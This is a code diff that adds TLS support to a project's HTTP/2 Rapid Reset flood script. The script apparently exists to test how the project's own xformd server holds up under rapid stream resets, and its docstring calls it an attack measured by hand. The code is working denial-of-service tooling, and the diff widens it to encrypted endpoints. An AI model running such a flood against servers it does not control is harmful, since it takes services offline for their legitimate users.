@@ -11,12 +11,16 @@ what it does to healthy clients (one process per attacking connection):
 
   /usr/bin/python3 tools/h2_rapid_reset.py --server=127.0.0.1:50051 --seconds=20
 
+Against a TLS xformd, give --tls_ca (and --tls_server_name when the
+certificate's name is not the host's): the same frames, encrypted.
+
 Needs Debian's python3-h2 (for the handshake and the header block). Not run
 in CI: it is an attack, measured by hand.
 """
 
 import argparse
 import socket
+import ssl
 import struct
 import threading
 import time
@@ -40,9 +44,17 @@ def main():
     parser.add_argument("--server", default="127.0.0.1:50051")
     parser.add_argument("--seconds", type=float, default=20)
     parser.add_argument("--method", default="ListWorlds")
+    parser.add_argument("--tls_ca", default="",
+                        help="PEM CA to trust: speak TLS (ALPN h2)")
+    parser.add_argument("--tls_server_name", default="")
     args = parser.parse_args()
     host, port = args.server.rsplit(":", 1)
-    sock = socket.create_connection((host, int(port)))
+    sock = socket.create_connection((host, int(port)), timeout=5)
+    if args.tls_ca:
+        context = ssl.create_default_context(cafile=args.tls_ca)
+        context.set_alpn_protocols(["h2"])
+        sock = context.wrap_socket(
+            sock, server_hostname=args.tls_server_name or host)
     # The preface and the SETTINGS exchange by the book; then frames by hand.
     connection = h2.connection.H2Connection(
         h2.config.H2Configuration(client_side=True))
@@ -66,11 +78,29 @@ def main():
             try:
                 if not sock.recv(1 << 20):
                     break
+            except socket.timeout:
+                continue  # Quiet for a while: still open.
             except OSError:
                 break
         closed.set()
 
-    threading.Thread(target=drain, daemon=True).start()
+    def drain_now():
+        # A TLS socket is not to be read and written from two threads at
+        # once: read what is there between batches instead.
+        sock.setblocking(False)
+        try:
+            while True:
+                if not sock.recv(1 << 20):
+                    closed.set()
+                    break
+        except (ssl.SSLWantReadError, BlockingIOError):
+            pass
+        except OSError:
+            closed.set()
+        sock.settimeout(5)
+
+    if not args.tls_ca:
+        threading.Thread(target=drain, daemon=True).start()
     stream, sent, start = 1, 0, time.time()
     end = start + args.seconds
     try:
@@ -82,12 +112,15 @@ def main():
                 stream += 2
             sock.sendall(batch)
             sent += 1000
+            if args.tls_ca:
+                drain_now()
     except OSError as error:
         print("send failed:", error)
     elapsed = time.time() - start
     print("streams opened and reset: %d in %.1f s (%.0f a second)%s" %
           (sent, elapsed, sent / elapsed,
-           "; the server closed the connection" if closed.is_set() else ""))
+           "; the server closed the connection" if closed.is_set() else ""),
+          flush=True)
 
 
 if __name__ == "__main__":
